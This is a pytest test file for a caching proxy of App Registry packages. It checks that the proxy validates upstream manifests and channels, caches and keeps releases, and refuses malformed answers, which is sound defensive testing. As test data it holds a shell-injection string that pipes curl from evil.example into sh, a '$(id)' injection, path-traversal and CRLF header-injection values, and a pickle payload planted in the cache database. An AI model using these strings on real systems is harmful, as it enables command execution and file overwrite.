"""Manifests, channels and lists come from their owner: checked when they come, remembered, and kept when it is gone."""

import asyncio
import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from apprproxy.core.model import MIB
from apprproxy.store.names.noted import WRITTEN
from tests.appregistry.archives import chart, packed, unpacked
from tests.appregistry.conftest import Start
from tests.appregistry.registry import JSON, Answer, Registry, as_json, html
from tests.appregistry.upstream import Upstream, running

PACKAGE = "/cnr/api/v1/packages/alice/nginx"
RELEASE = f"{PACKAGE}/1.0.0"
MANIFEST = f"{RELEASE}/helm"
PULL = f"{MANIFEST}/pull"
LIST = "/cnr/api/v1/packages"
READS = [PACKAGE, RELEASE, MANIFEST, PULL, f"{PACKAGE}/channels", f"{PACKAGE}/channels/stable", LIST, "/cnr/version"]


@pytest.fixture
def manifest(upstream: Upstream) -> dict[str, Any]:
    """The manifest of a release that is there and in a channel."""
    upstream.registry.push("alice/nginx", "1.0.0", "helm", packed(chart("1.0.0")))
    upstream.registry.set_channel("alice/nginx", "stable", "1.0.0")
    return upstream.registry.manifests["alice/nginx", "1.0.0", "helm"]


def says(upstream: Upstream, answer: Answer) -> None:
    upstream.twist = lambda _: answer


# --- what is not believed


@pytest.mark.parametrize("said", [{"name": "other", "current": "1.0.0"}, {"name": "stable", "current": "../../evil"}])
async def test_a_channel_is_the_one_that_was_asked_for_and_leads_to_a_release(
    said: dict[str, str], start: Start, upstream: Upstream
) -> None:
    gateway = await start({"up": upstream})
    says(upstream, as_json(said))

    assert 502 == (await gateway.get(f"{PACKAGE}/channels/stable")).status


NOT_DOCUMENTS = {
    "no JSON": b'{"package": "alice/ngi',
    "no text": b"\xff\xfe\x00{}",
    "nothing": b"",
    "JSON that nests without end": b"[" * 200_000,
    "a number": b"1",
    "HTML": b"<html>all is well</html>",
}


@pytest.mark.parametrize("target", READS)
@pytest.mark.parametrize("what", NOT_DOCUMENTS)
async def test_what_is_no_document_is_an_outage(what: str, target: str, start: Start, upstream: Upstream) -> None:
    says(upstream, Answer(200, NOT_DOCUMENTS[what]))
    gateway = await start({"up": upstream})
    got = await gateway.get(target)

    assert 502 == got.status
    assert ["up"] == [source["source"] for source in got.json["details"]["sources"]]
    assert [] == gateway.held()


LIES: list[dict[str, Any]] = [
    {"package": "mallory/nginx"},
    {"release": "2.0.0"},
    {"release": "../../../etc/cron.d/x"},
    {"content": {"digest": "0" * 63}},
    {"content": {"digest": "A" * 64}},
    {"content": {"digest": "0" * 64 + "\n"}},
    {"content": {"digest": "sha256:" + "0" * 64}},
    {"content": {"digest": None}},
    {"content": {}},
    {"content": None},
    {"content": {"digest": "0" * 64, "Digest": "1" * 64}},
    {"Content": {"Digest": "1" * 64}},
    {"pac\u212aage": "mallory/nginx"},
    {"RELEASE": "2.0.0"},
    {"mediaType": 7},
    {"mediaType": ""},
    {"mediaType": "helm kpm"},
    {"mediaType": "x';curl${IFS}evil.example|sh;'"},
    {"mediaType": "application/vnd.appr.package-manifest.$(id).v0.json"},
    {"mediaType": "h" * 128},
    {"mediaType": "helm\n"},
    {"package": None},
    {"release": ["1.0.0"]},
]
NO_LIE = (PACKAGE, LIES[1])
"""Another release of the same package is no lie where all of them are shown."""


@pytest.mark.parametrize(
    ("target", "change"),
    [(target, lie) for target in (PACKAGE, RELEASE, MANIFEST, PULL) for lie in LIES if (target, lie) != NO_LIE],
    ids=str,
)
async def test_a_manifest_of_something_else_or_without_a_digest_is_refused(
    target: str, change: dict[str, Any], start: Start, upstream: Upstream, manifest: dict[str, Any]
) -> None:
    lie = {**manifest, **change}
    says(upstream, as_json(lie if target in (MANIFEST, PULL) else [lie]))
    gateway = await start({"up": upstream})
    got = await gateway.get(target)

    assert 502 == got.status
    assert "upstream-failed" == got.json["code"]
    assert [] == list(gateway.app.names.all_first_seen())


@pytest.mark.parametrize("target", [PACKAGE, RELEASE, MANIFEST])
async def test_what_a_publisher_calls_the_fields_of_its_metadata_is_its_own(
    target: str, start: Start, upstream: Upstream, manifest: dict[str, Any]
) -> None:
    own = {"Name": "nginx", "name": "nginx", "Digest": "md5", "Release": 7}
    upstream.registry.manifests["alice/nginx", "1.0.0", "helm"] = {**manifest, "metadata": own}
    gateway = await start({"up": upstream})
    got = await gateway.get(target)

    assert 200 == got.status
    assert own == (got.json if target == MANIFEST else got.json[0])["metadata"]


@pytest.mark.parametrize("field", ["package", "release", "mediaType", "content"])
async def test_a_manifest_that_lacks_a_field_is_refused(
    field: str, start: Start, upstream: Upstream, manifest: dict[str, Any]
) -> None:
    says(upstream, as_json({key: value for key, value in manifest.items() if key != field}))
    gateway = await start({"up": upstream})
    got = await gateway.get(MANIFEST)

    assert 502 == got.status


@pytest.mark.parametrize(
    "release", ["../../../../home/user/.ssh/authorized_keys", "1.0.0\r\nX-Evil: 1", "1/2", "\u2028"]
)
@pytest.mark.parametrize("suffix", ["", "?format=json"])
async def test_a_release_that_is_resolved_upstream_cannot_lead_a_client_out_of_its_folder(
    release: str, suffix: str, start: Start, upstream: Upstream, manifest: dict[str, Any]
) -> None:
    """Clients write to the file name that they are given, as it is."""
    lie = as_json({**manifest, "release": release})
    upstream.twist = lambda target: lie if target.endswith("/default/helm") else None
    gateway = await start({"up": upstream})
    got = await gateway.get(f"{PACKAGE}/default/helm/pull{suffix}")

    assert 502 == got.status


async def test_a_document_of_nine_mebibytes_is_refused(
    start: Start, upstream: Upstream, manifest: dict[str, Any]
) -> None:
    says(upstream, as_json({**manifest, "metadata": "x" * 9 * MIB}))
    gateway = await start({"up": upstream})
    got = await gateway.get(MANIFEST)

    assert 502 == got.status
    assert [] == gateway.held()


async def test_unknown_fields_and_their_order_go_through_byte_for_byte(
    start: Start, upstream: Upstream, manifest: dict[str, Any]
) -> None:
    body = json.dumps({"zeta": [1, {"b": None}], **manifest, "digest": "sha256:00", "alpha": 1.50}).encode()
    says(upstream, Answer(200, body))
    gateway = await start({"up": upstream})
    got = await gateway.get(MANIFEST)

    assert (200, body) == (got.status, got.body)


# --- no, and no answer


@pytest.mark.parametrize("target", READS)
@pytest.mark.parametrize("status", [404, 500, 502])
async def test_html_is_an_outage_and_never_a_no(target: str, status: int, start: Start, upstream: Upstream) -> None:
    says(upstream, html(status))
    gateway = await start({"up": upstream})
    got = await gateway.get(target)

    assert 502 == got.status
    assert JSON == got.headers["Content-Type"]
    assert "upstream-failed" == got.json["code"]
    assert (status < 500) == ("that is no App Registry answer" in got.json["message"]), "a 500 has no words of it"


FLAT = {"code": "package-not-found", "message": "package alice/nginx doesn't exist", "details": {"package": "x"}}


@pytest.mark.parametrize("told", [FLAT, {"error": FLAT}], ids=["flat", "wrapped as Quay does"])
@pytest.mark.parametrize("target", [PACKAGE, RELEASE, MANIFEST, PULL, f"{PACKAGE}/channels/x", f"{RELEASE}/-/pull"])
async def test_a_no_is_passed_on_in_the_flat_form(
    target: str, told: dict[str, Any], start: Start, upstream: Upstream
) -> None:
    says(upstream, as_json(told, 404))
    gateway = await start({"up": upstream})
    got = await gateway.get(target)

    assert (404, FLAT) == (got.status, got.json)


async def test_a_no_is_remembered_for_missing_for_and_then_asked_again(start: Start, upstream: Upstream) -> None:
    gateway = await start({"up": upstream}, missing_for="10s")
    await gateway.get(MANIFEST)
    gateway.clock.advance(9)
    remembered = await gateway.get(PULL)
    asked = upstream.count()
    upstream.registry.push("alice/nginx", "1.0.0", "helm", packed(chart("1.0.0")))
    gateway.clock.advance(2)
    there = await gateway.get(MANIFEST)

    assert (404, 1) == (remembered.status, asked)
    assert 200 == there.status


async def test_a_client_that_insists_learns_at_once_of_what_was_pushed(start: Start, upstream: Upstream) -> None:
    gateway = await start({"up": upstream}, missing_for="1h")
    await gateway.get(MANIFEST)
    upstream.registry.push("alice/nginx", "1.0.0", "helm", packed(chart("1.0.0")))
    gateway.clock.advance(2)
    got = await gateway.get(MANIFEST, headers={"Cache-Control": "no-cache"})

    assert 200 == got.status


async def test_a_silent_upstream_is_504_after_its_time(start: Start, upstream: Upstream) -> None:
    upstream.silent = True
    gateway = await start({"up": upstream}, timeouts={"name": "100ms"})
    got = await gateway.get(MANIFEST)

    assert (504, "upstream-failed") == (got.status, got.json["code"])


async def test_a_refused_connection_is_502_and_names_the_upstream(start: Start, upstream: Upstream) -> None:
    await upstream.stop()
    gateway = await start({"up": upstream})
    got = await gateway.get(MANIFEST)

    assert 502 == got.status
    assert got.json["message"].startswith("up: no connection")


@pytest.mark.usefixtures("manifest")
@pytest.mark.parametrize("target", READS)
async def test_what_was_had_once_is_served_while_the_upstream_is_broken(
    target: str, start: Start, upstream: Upstream
) -> None:
    gateway = await start({"up": upstream}, fresh_for="60s", stale_for="7d")
    first = await gateway.get(target)
    says(upstream, html(500))
    gateway.clock.advance(7 * 86_400)
    stale = await gateway.get(target)
    gateway.clock.advance(120)
    too_old = await gateway.get(target)

    assert (200, first.body) == (stale.status, stale.body)
    assert "stale-if-error" in stale.cache
    assert 502 == too_old.status


@pytest.mark.usefixtures("manifest")
@pytest.mark.parametrize("form", ["", "?format=json"])
async def test_a_pull_of_what_is_held_says_when_its_release_was_confirmed(
    form: str, start: Start, upstream: Upstream
) -> None:
    gateway = await start({"up": upstream}, fresh_for="60s")
    told = []
    for later in (0, 30, 60):
        gateway.clock.advance(later)
        told.append((await gateway.get(f"{PULL}{form}")).cache.removeprefix("apprproxy; "))

    assert ["fwd=uri-miss; stored", "hit", "fwd=stale; fwd-status=200; stored"] == told


@pytest.mark.usefixtures("manifest")
async def test_a_stopped_upstream_a_restart_and_a_held_package_go_together(start: Start, upstream: Upstream) -> None:
    before = await start({"up": upstream})
    first = await before.get(PULL)
    await before.close()
    await upstream.stop()
    again = await start({"up": upstream}, gateway={"offline": True})
    again.clock.advance(365 * 86_400)
    got = await again.get(PULL)
    missing = await again.get(PULL.replace("1.0.0", "2.0.0"))

    assert (200, first.body) == (got.status, got.body)
    assert 504 == missing.status


@pytest.mark.usefixtures("manifest")
async def test_fifty_who_pull_at_once_cost_one_manifest_and_one_package(start: Start, upstream: Upstream) -> None:
    gateway = await start({"up": upstream})
    answers = await asyncio.gather(*(gateway.get(PULL + suffix) for suffix in ("", "?format=json") for _ in range(25)))

    assert {200} == {got.status for got in answers}
    assert (1, 1) == (upstream.count("/1.0.0/helm"), upstream.count("/blobs/"))


async def test_a_release_that_is_asked_for_by_a_thousand_ranges_is_not_a_thousand_records(
    start: Start, upstream: Upstream, manifest: dict[str, Any]
) -> None:
    """Each would be one for good, beside ``cache.max_size``."""
    says(upstream, as_json(manifest))
    gateway = await start({"up": upstream})
    ranges = [f"{PACKAGE}/%3C{number + 2}/helm" for number in range(WRITTEN + 50)]
    first = [(await gateway.get(path)).status for path in ranges]
    asked = upstream.count()
    again = [(await gateway.get(path)).status for path in ranges]

    assert {200} == {*first, *again}
    assert asked == upstream.count()
    assert WRITTEN == len(list(gateway.app.names.all_names()))


@pytest.mark.usefixtures("manifest")
async def test_a_filter_that_is_a_dash_is_not_the_name_without_a_filter(start: Start, upstream: Upstream) -> None:
    """The genuine servers say that no release has the media type ``-``, which anybody may ask for."""
    gateway = await start({"up": upstream})
    filtered = await gateway.get(f"{PACKAGE}?media_type=-")
    whole = await gateway.get(PACKAGE)

    assert [] == filtered.json
    assert ["1.0.0"] == [one["release"] for one in whole.json]


# --- gone


@pytest.mark.usefixtures("manifest")
@pytest.mark.parametrize("after", [120.0, 30 * 86_400.0], ids=["while it may be stale", "long after"])
@pytest.mark.parametrize("target", [RELEASE, MANIFEST, PULL, f"{PULL}?format=json"])
async def test_a_release_that_was_deleted_upstream_is_kept(
    target: str, after: float, start: Start, upstream: Upstream
) -> None:
    gateway = await start({"up": upstream}, missing_for="10s")
    first = await gateway.get(target)
    upstream.registry.delete("alice/nginx", "1.0.0", "helm")
    upstream.registry.blobs.clear()
    gateway.clock.advance(after)
    asked_anew = await gateway.get(target)
    remembered = await gateway.get(target)

    assert 200 == first.status
    assert (200, first.body) == (asked_anew.status, asked_anew.body)
    assert (200, first.body) == (remembered.status, remembered.body)


@pytest.mark.usefixtures("manifest")
async def test_a_release_that_was_deleted_upstream_goes_where_gone_is_follow(start: Start, upstream: Upstream) -> None:
    gateway = await start({"up": upstream}, gone="follow")
    await gateway.get(PULL)
    upstream.registry.delete("alice/nginx", "1.0.0", "helm")
    gateway.clock.advance(120)
    got = await gateway.get(PULL)

    assert (404, "package-release-not-found") == (got.status, got.json["code"])


# --- a manifest whose bytes are not there


@pytest.mark.usefixtures("manifest")
async def test_a_release_whose_bytes_are_nowhere_is_not_denied(start: Start, upstream: Upstream) -> None:
    """The owner says that the release is there, so 404 would be our own invention."""
    upstream.registry.blobs.clear()
    gateway = await start({"up": upstream})
    got = await gateway.get(PULL)

    assert 502 == got.status


@pytest.mark.usefixtures("manifest")
async def test_a_fresh_manifest_that_was_overtaken_by_a_push_is_asked_for_again(
    start: Start, upstream: Upstream
) -> None:
    gateway = await start({"up": upstream}, moved="follow", fresh_for="1h")
    await gateway.get(MANIFEST)
    upstream.registry.blobs.clear()
    upstream.registry.push("alice/nginx", "1.0.0", "helm", packed(chart("1.0.0", "again")))
    gateway.clock.advance(30)
    got = await gateway.get(PULL)

    assert 200 == got.status
    assert chart("1.0.0", "again") == unpacked(got.body)


@pytest.mark.usefixtures("manifest")
async def test_a_channel_leads_to_its_current_release(start: Start, upstream: Upstream) -> None:
    gateway = await start({"up": upstream})
    got = await gateway.get(f"{PACKAGE}/channels/stable/")

    assert {"name": "stable", "current": "1.0.0", "releases": ["1.0.0"]} == got.json


async def test_a_planted_row_among_the_names_is_500_and_is_not_executed(start: Start, upstream: Upstream) -> None:
    gateway = await start({"up": upstream}, missing_for="0s")
    upstream.registry.push("alice/nginx", "1.0.0", "helm", packed(chart("1.0.0")))
    await gateway.get(MANIFEST)
    with sqlite3.connect(gateway.directory / "names" / "cache.db") as connection:
        connection.execute("UPDATE Cache SET mode = 4, value = ?", (b"cos\nmkdir\n(S'executed'\ntR.",))
    connection.close()
    await gateway.app.names.written("up", "nobody/nothing")
    got = await gateway.get(MANIFEST)

    assert (500, "internal-error") == (got.status, got.json["code"])
    assert "names database" in got.json["message"]
    assert not Path("executed").exists()


async def test_an_error_nested_too_deep_is_an_outage(start: Start, upstream: Upstream) -> None:
    deep = b'{"code":"package-not-found","details":' + b'{"a":' * 300 + b"1" + b"}" * 300 + b"}"
    upstream.twist = lambda _: Answer(404, deep, "application/json")
    gateway = await start({"up": upstream})
    failed = await gateway.get("/cnr/api/v1/packages/alice/nginx")

    assert 502 == failed.status


async def test_a_question_that_the_owner_refuses_is_not_put_to_the_next_member(
    start: Start, upstream: Upstream
) -> None:
    for media_type in ("helm", "kpm"):
        upstream.registry.push("corp/app", "1.0.0", media_type, packed(chart("1.0.0", media_type)))
    async with running(Registry()) as squatter:
        squatter.registry.push("corp/app", "1.0.0", "helm", packed(chart("6.6.6")))
        gateway = await start(
            {"first": upstream, "second": squatter}, gateway={"views": {"default": ["first", "second"]}}
        )
        refused = await gateway.get("/cnr/api/v1/packages/corp/app/1.0.0/-")

        assert (400, "invalid-usage") == (refused.status, json.loads(refused.body)["code"])
        assert 0 == squatter.count()


@pytest.mark.parametrize(
    "said",
    [
        b'{"code":"NoSuchBucket"}',
        b'{"error":{"code":"ResourceNotFound","message":"no backend"}}',
        b'{"code":["package-not-found"]}',
        b'{"code":"not-found"}',
    ],
)
async def test_what_a_balancer_says_in_json_hands_no_name_to_the_next_member(
    said: bytes, upstream: Upstream, start: Start
) -> None:
    upstream.registry.push("alice/nginx", "1.0.0", "helm", packed(chart("1.0.0")))
    async with running() as sick:
        sick.twist = lambda _: Answer(404, said, "application/json")
        gateway = await start({"first": sick, "second": upstream}, gateway={"views": {"both": ["first", "second"]}})
        got = await gateway.get("/both/cnr/api/v1/packages/alice/nginx/1.0.0/helm/pull")

    assert (502, 0) == (got.status, upstream.count())


@pytest.mark.parametrize("status", [407, 408, 421, 499])
async def test_a_status_that_no_server_says_no_with_is_an_outage(status: int, upstream: Upstream, start: Start) -> None:
    upstream.twist = lambda _: Answer(status, b'{"code":"package-not-found"}', "application/json")
    gateway = await start({"up": upstream})

    assert 502 == (await gateway.get("/cnr/api/v1/packages/alice/nginx")).status
